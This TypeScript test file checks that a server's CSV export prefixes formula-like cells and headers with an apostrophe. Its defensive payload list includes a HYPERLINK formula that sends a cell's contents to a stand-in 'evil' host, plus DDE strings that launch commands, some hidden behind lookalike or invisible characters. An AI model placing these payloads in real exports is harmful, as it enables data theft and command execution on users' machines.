import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { Table } from '../../../server/interfaces/csv.ts';
import { encodeCsv, seriesRows, sessionSeriesTable } from '../../../server/interfaces/csv.ts';

/** What a spreadsheet finds in one cell. */
function cellOf(value: string | number | boolean | null, raw = false): string {
  const [, [cell]]: string[][] = parse(encodeCsv(['cmd'], [{ cmd: value }], raw), {
    skip_empty_lines: false,
  });
  return cell;
}

describe('a text that a spreadsheet would run', () => {
  const FORMULAS = [
    '=HYPERLINK("http://evil/?x="&A1,"click")',
    '+1+1',
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '\uff1d1+1',
    '\uff0b1',
    '\uff0d1',
    '\uff20SUM(1)',
    '\u0000=1',
    "=cmd|'/c calc'!A1",
    '-5',
    '|calc',
    '%0A=1',
    '\ufeff=1+1',
    '\u200b=1+1',
    ' \t \u200b=1',
    '=',
  ];

  test.each(FORMULAS)('%j is guarded by an apostrophe', (text) => {
    expect(cellOf(text)).toBe(`'${text}`);
  });

  test.each(FORMULAS)('%j is guarded also where a column is called so', (text) => {
    const head = (raw: boolean) => parse(encodeCsv([text], [{ [text]: 1 }], raw));
    expect(head(false)).toEqual([[`'${text}`], ['1']]);
    expect(head(true)).toEqual([[text], ['1']]);
  });

  test.each(FORMULAS)('%j stands as it is with raw', (text) => {
    expect(cellOf(text, true)).toBe(text);
  });

  test.each([['/usr/bin/a -b=1'], ['a=b'], ['"=1"'], ["'=1"], ['(sd-pam)'], ['1-2'], ['']])(
    '%j is none, and stands as it is',
    (text) => {
      expect(cellOf(text)).toBe(text);
    },
  );
});

describe('a table', () => {
  test('keeps numbers numbers, negative ones as well; unknown is an empty cell', () => {
    expect(encodeCsv(['n', 'x', 'flag'], [{ n: -5, x: null, flag: true }])).toBe('n,x,flag\n-5,,true\n');
  });

  test('has its header without rows', () => {
    expect(encodeCsv(['a', 'b'], [])).toBe('a,b\n');
  });

  test('keeps the columns that are asked for, in their order', () => {
    expect(encodeCsv(['b', 'a'], [{ a: 1, b: 2, c: 3 }])).toBe('b,a\n2,1\n');
  });

  test('raw, comes back from csv-parse as it was, whatever the texts are', () => {
    const text = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.string({ unit: fc.constantFrom('"', ',', '\n', '\r', '=', ' ', 'a') }),
    );
    fc.assert(
      fc.property(fc.array(fc.record({ cmd: text, user: text }), { maxLength: 5 }), (rows) => {
        const csv = encodeCsv(['cmd', 'user'], rows, true);
        expect(parse(csv, { columns: true, record_delimiter: '\n' })).toEqual(rows);
      }),
    );
  });

  test('guarded, differs from raw by nothing but apostrophes before formulas', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const guarded = cellOf(text).replace(/^'/, '');
        expect([text, `'${text}`]).toContain(cellOf(text));
        expect(guarded === text || text.startsWith("'")).toBe(true);
      }),
    );
  });
});

describe('columns', () => {
  test('of a session’s members are apart whatever the case of their names', () => {
    const members = ['a', 'A', 'A_2'].map((name, at) => ({ name, rss_bytes: [at] }));
    const { columns, rows } = sessionSeriesTable({ t: [0], used_bytes: [9], members });
    expect(columns).toEqual(['t', 'used_bytes', 'a_rss_bytes', 'A_2_rss_bytes', 'A_2_2_rss_bytes']);
    expect(Object.values(rows[0]).slice(1)).toEqual([9, 0, 1, 2]);
  });
});

describe('series', () => {
  test('become rows with the instant as ISO 8601 and null as an empty cell', () => {
    const rows: Table = seriesRows([0, 1500], { a: [1, null], b: [null, 2] });
    expect(encodeCsv(['t', 'a', 'b'], rows)).toBe(
      't,a,b\n1970-01-01T00:00:00.000Z,1,\n1970-01-01T00:00:01.500Z,,2\n',
    );
  });
});
